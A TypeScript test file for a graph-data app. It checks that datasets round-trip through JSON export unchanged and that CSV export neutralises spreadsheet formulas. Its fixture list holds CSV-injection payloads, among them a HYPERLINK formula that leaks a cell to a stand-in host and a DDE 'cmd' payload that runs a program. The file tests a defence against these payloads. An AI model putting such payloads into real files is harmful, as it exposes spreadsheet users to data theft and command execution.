// Nothing lost: every fixture that opens exports to native JSON and reopens identical; CSV exports defuse formulas.

import { existsSync, readdirSync, readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { type LoadResult, loadDataset } from '../../src/io/load-dataset';
import type { InputFile } from '../../src/io/load-types';
import { writeCsv } from '../../src/io/write-csv';
import { serialiseGraph, writeNative } from '../../src/io/write-native';
import { createActorGraph } from '../../src/model/actor-graph';
import { DatasetError } from '../../src/model/dataset-error';

const FIXTURES = 'tests/fixtures/';
/** The bundled datasets are valid files too; they must survive the same trip. */
const BUNDLED = ['graph-data/sixth-call.json', 'graph-data/got-relations.graphml', 'graph-data/polarisation.json'];
/** Tables that only make a graph together, as the app opens them. */
const PAIRS = [
  ['backchannel__pair-nodes.csv', 'backchannel__pair-edges.csv'],
  ['backchannel__nodes-by-row.csv', 'backchannel__edges-by-row.csv'],
];

function read(path: string): InputFile {
  return { name: path.split('/').pop() ?? path, text: readFileSync(path, 'utf8') };
}

/** Every fixture (and bundled dataset) on its own, then the pairs. */
const CANDIDATES: [label: string, files: InputFile[]][] = [
  ...readdirSync(FIXTURES, { withFileTypes: true })
    .filter((entry) => entry.isFile() && !entry.name.endsWith('.md'))
    .map((entry) => entry.name)
    .sort()
    .map((name): [string, InputFile[]] => [name, [read(FIXTURES + name)]]),
  ...BUNDLED.filter(existsSync).map((path): [string, InputFile[]] => [path, [read(path)]]),
  ...PAIRS.map((names): [string, InputFile[]] => [names.join(' + '), names.map((name) => read(FIXTURES + name))]),
];

/** The valid ones: what loads (broken fixtures are refused, and that is tested elsewhere). */
const VALID = CANDIDATES.flatMap(([label, files]): [string, LoadResult][] => {
  try {
    return [[label, loadDataset(files)]];
  } catch (error) {
    if (!(error instanceof DatasetError)) throw error;
    return [];
  }
});

describe('nothing lost: open, export to native JSON, reopen', () => {
  it('finds the valid fixtures', () => {
    expect(VALID.length).toBeGreaterThanOrEqual(20);
    console.log(`round-tripped: ${VALID.map(([label]) => label).join(', ')}`);
  });

  it.each(VALID)('%s reopens identical: nodes, edges, ends, directions and every attribute', (label, loaded) => {
    const native = loaded.formatLabel === 'Backchannel dataset';
    const text = writeNative(loaded.graph, { native });
    const reopened = loadDataset([{ name: `${label}.json`, text }]);
    expect(reopened.formatLabel).toBe(native ? 'Backchannel dataset' : 'graphology JSON');
    // The same serialisation, attribute for attribute, in the same order; the reopened file is warned about nothing.
    expect(serialiseGraph(reopened.graph)).toEqual(serialiseGraph(loaded.graph));
    expect(reopened.warnings).toEqual(native ? loaded.warnings : []);
  });
});

describe('CSV export neutralises formula cells', () => {
  const FORMULAS = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+cmd',
    '-2+3',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '=1+1\nsecond line',
    '-3.5',
  ];

  function hostileGraph() {
    const graph = createActorGraph();
    graph.mergeAttributes({ title: '=title' });
    FORMULAS.forEach((formula, i) => {
      graph.addNode(formula, { label: formula, kind: formula, [formula]: formula, x: -i - 0.5, count: -i });
    });
    FORMULAS.forEach((formula, i) => {
      const source = FORMULAS[i] ?? '';
      const target = FORMULAS[(i + 1) % FORMULAS.length] ?? '';
      graph.addDirectedEdgeWithKey(`${formula}#${i}`, source, target, {
        relation: formula,
        date: formula,
        evidence: [{ quote: formula, source: formula }],
        [`=${i}`]: formula,
      });
    });
    return graph;
  }

  it('every text cell that a spreadsheet would run starts with an apostrophe; numbers stay numbers', () => {
    const files = writeCsv(hostileGraph());
    for (const [name, text] of Object.entries(files)) {
      const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
      expect(parsed.errors, name).toEqual([]);
      const cells = parsed.data.flat();
      expect(cells.length).toBeGreaterThan(50);
      for (const cell of cells) {
        // Only numbers written as numbers (x, count) may start with "-": text such as "-2+3" or "-3.5" is defused.
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${name}: ${JSON.stringify(cell)}`).toMatch(/^-\d+(\.\d+)?$/);
      }
      expect(cells).toContain("'=1+1");
      expect(cells).toContain("'-3.5");
    }
  });

  it('only adds the apostrophe: each value is otherwise kept whole', () => {
    const { nodes } = writeCsv(hostileGraph());
    const rows = Papa.parse<Record<string, string>>(nodes, { header: true, skipEmptyLines: true }).data;
    expect(rows.map((row) => row.label)).toEqual(FORMULAS.map((formula) => `'${formula}`));
    expect(rows.map((row) => row.x)).toEqual(FORMULAS.map((_, i) => String(-i - 0.5)));
  });
});
